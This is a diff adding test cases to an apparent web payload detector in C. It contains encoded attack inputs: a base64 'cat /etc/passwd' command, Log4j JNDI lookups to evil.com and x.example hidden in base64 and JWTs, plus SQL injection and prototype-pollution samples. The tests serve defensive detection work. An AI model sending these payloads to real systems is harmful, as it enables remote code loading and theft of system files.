@@ -120,6 +120,22 @@ static const struct fast_case cases[] = {
 	 "__proto__ object as a json key"},
 	{"{\"k\":\"v\",\"constructor\": {\"prototype\": {\"x\":1}}}", JSON, 0,
 	 PAYLOAD_PROTO_POLLUTION, 85, "constructor.prototype object in json"},
+	/* the base64 reading asked once per value (payload_b64_text, kept
+	 * for payload_b64_unwrap's later calls): the shell detector is run
+	 * past its closed gate only for text, payload_wrap_scan only for
+	 * text or a JWT (payload_wrap_may), led by "ey" or "Bearer " */
+	{"Y2F0IC9ldGMvcGFzc3dk", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_CMDI, 75,
+	 "value is a command line"},
+	{"JHtqbmRpOmxkYXA6Ly9ldmlsLmNvbS9hfQ==", VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_JNDI, 95,
+	 "log4j lookup inside a base64 value"},
+	{"eyJhbGciOiJub25lIiwia2lkIjoiJHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0ifQ.eyJzdWIiOiIxIn0.sig",
+	 VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_JNDI, 95, "log4j lookup inside a jwt"},
+	{"Bearer eyJhbGciOiJub25lIiwia2lkIjoiJHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0ifQ.eyJzdWIiOiIxIn0.sig",
+	 VALUE, PAYLOAD_WHERE_HEADER, PAYLOAD_JNDI, 95, "log4j lookup inside a jwt"},
+	/* a JWT claim that is base64 of a command: the claim's run nests in
+	 * the token's (its own value pushed, the token's popped back) */
+	{"eyJhbGciOiJub25lIn0.eyJzdWIiOiJZMkYwSUM5bGRHTXZjR0Z6YzNkayJ9.sig", VALUE,
+	 PAYLOAD_WHERE_HEADER, PAYLOAD_CMDI, 75, "command injection inside a jwt"},
 	/* an escaped quote is part of the string, not its end */
 	{"{\"q\":\"1\\\" OR \\\"1\\\"=\\\"1\"}", JSON, 0, PAYLOAD_SQLI, 90,
 	 "boolean tautology on literals"},
